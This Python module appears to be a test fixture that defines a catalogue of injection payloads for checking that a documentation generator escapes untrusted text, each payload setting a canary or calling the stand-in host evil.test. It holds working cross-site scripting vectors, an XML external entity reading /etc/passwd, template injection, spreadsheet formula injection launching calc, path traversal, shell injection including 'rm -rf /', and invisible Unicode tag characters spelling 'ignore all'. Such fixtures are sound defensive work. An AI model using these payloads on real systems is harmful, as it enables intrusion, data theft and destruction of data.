"""Words that try to be more than words: one for each way in which text has become code somewhere.

In: nothing. Out: `PAYLOADS`, by name. Whatever runs sets `window.canary`, opens a dialog or asks evil.test for
something, so that a browser can tell. Where they go: corpus.py.
"""

from __future__ import annotations

RUN = "window.canary=1;alert(1);fetch('https://evil.test/ran')"
"""What each script would do."""

ELEMENTS = {
    "script": f"<script>{RUN}</script>",
    "script from elsewhere": "<script src=//evil.test/x.js></script>",
    "script in a script": f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    "script in capitals": f"<SCRIPT/x>{RUN}</SCRIPT >",
    "script of a module": "<script type=module>import 'https://evil.test/m.js'</script>",
    "image": f'<img src=x onerror="{RUN}">',
    "image with slashes": f"<img/src/onerror={RUN}//>",
    "svg": f'<svg onload="{RUN}"><circle r=9></svg>',
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "svg use": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "svg animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text y=20>go</text></a></svg>',
    "svg foreign object": f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    "math": f'<math><mi xlink:href="javascript:{RUN}">go</mi></math>',
    "frame": f'<iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frame of a script": f'<iframe src="javascript:{RUN}"></iframe>',
    "object": f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    "embed": "<embed src=//evil.test/x.swf>",
    "form": "<form action=https://evil.test/><input name=q autofocus><button>go</button></form>",
    "button": f'<button formaction="javascript:{RUN}" autofocus>go</button>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "toggle": f'<details open ontoggle="{RUN}"><summary>go</summary></details>',
    "body": f'<body onload="{RUN}">',
    "video": f'<video><source onerror="{RUN}"></video>',
    "marquee": f'<marquee onstart="{RUN}">go</marquee>',
    "animation": f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart="{RUN}">go</b>',
    "link to a script": f'<a href="javascript:{RUN}">go</a>',
    "link to data": f'<a href="data:text/html,<script>{RUN}</script>">go</a>',
    "link in odd letters": f'<a href="  JaVaScRiPt&colon;{RUN}">go</a>',
    "style sheet": '<link rel=stylesheet href="https://evil.test/x.css">',
    "refresh": '<meta http-equiv=refresh content="0;url=https://evil.test/">',
    "base": '<base href="https://evil.test/">',
    "style": '<style>@import "https://evil.test/x.css";*{background:url(//evil.test/x.png)}body{display:none}</style>',
    "style attribute": '<p style="position:fixed;inset:0;background:url(https://evil.test/x.png)">over all</p>',
    "template": f"<template><script>{RUN}</script></template>",
    "portal": "<portal src=https://evil.test/></portal><slot name=x></slot><x-evil is=a></x-evil>",
    "no script": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "end of the title": f"</title><script>{RUN}</script>",
    "end of a text field": f"</textarea></select></option><script>{RUN}</script>",
    "end of the script": f"</script><script>{RUN}</script>",
    "end of the style": f"</style><img src=x onerror={RUN}>",
    "end of the page": f"</span></p></details></section></article></main></body></html><script>{RUN}</script>",
    "plain text": "<plaintext><xmp><listing>the rest",
    "comment": "<!-- the rest of the page is gone",
    "end of a comment": f"--><script>{RUN}</script><!--",
    "odd comment": f"<!--><script>{RUN}</script>--!> <!--[if IE]><script>{RUN}</script><![endif]-->",
    "character data": f"<![CDATA[<script>{RUN}</script>]]>",
    "end of character data": f"]]><script>{RUN}</script>",
    "instruction": f"<?xml version='1.0'?><?php system('id') ?><% {RUN} %>",
    "entities of a document type": '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;">]><x>&b;</x>',
    "mutation": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation in mathematics": "<math><mtext><table><mglyph><style><!--</style><b title='--&gt;&lt;img onerror&gt;'>",
}

ATTRIBUTES = {
    "double quotes": f'" onmouseover="{RUN}" autofocus onfocus="{RUN}" x="',
    "single quotes": f"' onmouseover='{RUN}' autofocus onfocus='{RUN}' x='",
    "backticks": f"` onmouseover={RUN} `",
    "open tag": "<a href=\"https://evil.test/ title='x",
    "greater than": f"/><img src=x onerror={RUN}>",
    "search marks": 'data-search-exclude="x" data-search-pagefind="y',
}

ENTITIES = {
    "named": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt;b&amp;gt;",
    "numbered": "&#60;script&#62;alert(1)&#60;/script&#62; &#x3c;img src=x onerror=alert(1)&#x3e;",
    "unfinished": "&ltscript&gtalert(1)&lt/script&gt &copy &notit; &#0; &#xD800; &#x110000; &#x80;",
    "wide letters": "＜script＞alert(1)＜/script＞ ‹script› ʺ onmouseover=alert(1)",
    "seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
}

TEMPLATES = {
    "expression": "{{ 7*7 }} {{ config }} {{ ''.__class__.__mro__[1].__subclasses__() }}",
    "statement": "{% include 'mkdocs.yml' %}{% raw %}{% endraw %}{% for x in range(9) %}x{% endfor %}",
    "unfinished": "{{ {% {# and the rest",
    "comment": "{# hidden #} shown",
    "other languages": "${7*7} #{7*7} <%= 7*7 %> {{{7*7}}} [[${7*7}]] @{7*7} *{7*7}",
    "snippet": '--8<-- "mkdocs.yml"\n\n--8<--\nmkdocs.yml\n--8<--\n\n;--8<-- "x"',
    "mark of our own": "zQ7BriefGen zQ7BriefGencontent  zQ7BriefGen  &<\"'é zQ7BriefGentitle [U+202E]",
}

MARKDOWN = {
    "link": f"[go](javascript:{RUN}) [go](<data:text/html,x>) [go][1]\n\n[1]: javascript:alert(1)",
    "picture": '![x](https://evil.test/x.png "y") ![x](x"onerror="alert(1))',
    "address": '<javascript:alert(1)> <https://evil.test/<script>> https://evil.test/"onmouseover=alert(1)',
    "admonition": f'!!! danger "<script>{RUN}</script>"\n    inside\n\n???+ note "x"\n    inside',
    "attributes": f'# Heading {{: onclick="{RUN}" #bg-find .md-typeset }}\n\nwords {{: style="display:none" }}',
    "fence": '```html\n<script>alert(1)</script>\n\n~~~ {.python hl_lines=1 title="<img src=x onerror=alert(1)>"}\nx',
    "diagram": '```mermaid\ngraph TD; A["<img src=x onerror=alert(1)>"] --> B; click A call alert(1)\n```',
    "in markup": f'<div markdown="1" onclick="{RUN}">\n\n**bold**\n\n</div>',
    "notes": 'words[^1] and HTML\n\n[^1]: <script>alert(1)</script>\n\n*[HTML]: " onmouseover="alert(1)',
    "pictograms": ":material-alert: :smile: :fontawesome-brands-x:{ onclick=alert(1) }",
    "critic": "{++ added ++}{-- gone --}{>> note <<}{== marked ==} ==marked== ^^under^^ ~~gone~~ ++ctrl+alt+del++",
    "tabs and lists": '=== "Tab <script>"\n\n    inside\n\n- [ ] task\n- [x] done <input autofocus onfocus=alert(1)>',
    "table": "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | `|` |",
    "mathematics": "$$\\href{javascript:alert(1)}{x}$$ \\(x\\) \\unicode{<img src=x onerror=alert(1)>}",
    "contents": "[TOC]\n\n[[wiki|<script>]] @user #1 user/repo@abcdef0",
}

FORMATS = {
    "formula": '=HYPERLINK("https://evil.test/?x="&A1,"go") and =1+1',
    "formula with a sign": "+1+1 or -2+3+cmd|' /C calc'!A0 or @SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a border": "x;=1+1\t=1+1|=1+1,=1+1\r=1+1",
    "wide formula": "＝1+1 ＋1 －1 ＠SUM(1)",
    "quotes of a table": '","=1+1","" """,\n"=1+1"',
    "event": "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:planted\r\nATTACH:https://evil.test/x",
    "event text": 'a;b,c\\n d\\, e: \\; "f" ;VALUE=URI:javascript:alert(1)',
    "event fold": "é" * 90 + "\r\n planted" + "😀" * 40,
    "bibtex": "x}}, author = {{Planted}}, note = {{y}} } @misc{planted, title={z}} % \\input{/x} \\write18{id} #$&_^~",
    "ris": "x\r\nER  - \r\nTY  - JOUR\r\nTI  - planted\r\nER  - ",
    "json": '"}],"planted":[{"x":"\\u0022\\"}] \\u003c/script\\u003e __proto__ constructor toString',
    "lines of scripts": "x\u2028alert(1)\u2029//\u0085 y",
    "feed": f"]]></content><entry><title>planted</title><content type='html'>&lt;script&gt;{RUN}</content></entry>",
    "linked data": '</script><script type="application/ld+json">{"@context":"https://evil.test/","@id":"javascript:x"}',
    "names of objects": "__proto__ constructor hasOwnProperty toString valueOf watch then",
    "record of a log": "x\nWARNING -  planted\nINFO    -  planted \x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b[2J",
    "path": "../../../../etc/passwd ..\\..\\windows %2e%2e%2f file:///etc/passwd \\\\evil.test\\share",
    "shell": "$(touch /tmp/pwned) `id` ; rm -rf / | cat && x > /dev/null %s %n {0.__class__}",
}

LETTERS = {
    "overrides": "\u202egnp.exe\u202c and \u202dleft\u202c and \u202bembedded\u202c \u202aleft\u202c",
    "isolates": "\u2067never closed \u2066left \u2068first",
    "marks of direction": "a\u200fb\u200ec\u061cd",
    "zero width": "pay\u200bment pay\u200cment pay\u200dment pay\u2060ment pay\ufeffment",
    "invisible": "a\u00adb a\u034fb a\u115fb a\u3164b a\u2800b a\u180eb a\u2063b a\ufff9b\ufffac\ufffbd a\uffa0b",
    "tags": "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all") + "y",
    "variation": "a\ufe0fb\ufe00c\U000e0101d",
    "controls": "a\x01b",
    "bells": "a\x07b",
    "colours": "\x1b[31m",
    "colours in one sign": "a\x9b31m",
    "ends of lines": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "no characters": "a\ufffeb\uffffc\ufdd0d\U0001fffee",
    "private": "a\ue000b\uf8ffc\U000f0000d",
    "heaps of marks": "Z\u0351\u036b\u0343\u032a\u0302\u036b\u033d\u034f\u0334\u0319\u0324" * 8,
    "wide spaces": "a\u00a0b\u2003c\u3000d\u2009e\u205ff\u1680g",
    "other scripts": "Київ 東京 \u200f\u0639\u0631\u0628\u200f \u0915\u094d\u200d\u0937 👩\u200d🚀 Ærø",
    "look-alikes": "\u0422h\u0435 H\u0430rb\u043eur \u0421\u043eun\u0441il, \u217c0ve, \u0440\u0430\u0443.com",
    "right to left": "\u05d0\u05d1\u05d2 (1) <b> \u05d3\u05d4\u05d5",
}

PAYLOADS = {
    f"{kind} {name}": words
    for kind, them in (
        ("element", ELEMENTS),
        ("attribute", ATTRIBUTES),
        ("entity", ENTITIES),
        ("template", TEMPLATES),
        ("markdown", MARKDOWN),
        ("format", FORMATS),
        ("letters", LETTERS),
    )
    for name, words in them.items()
}
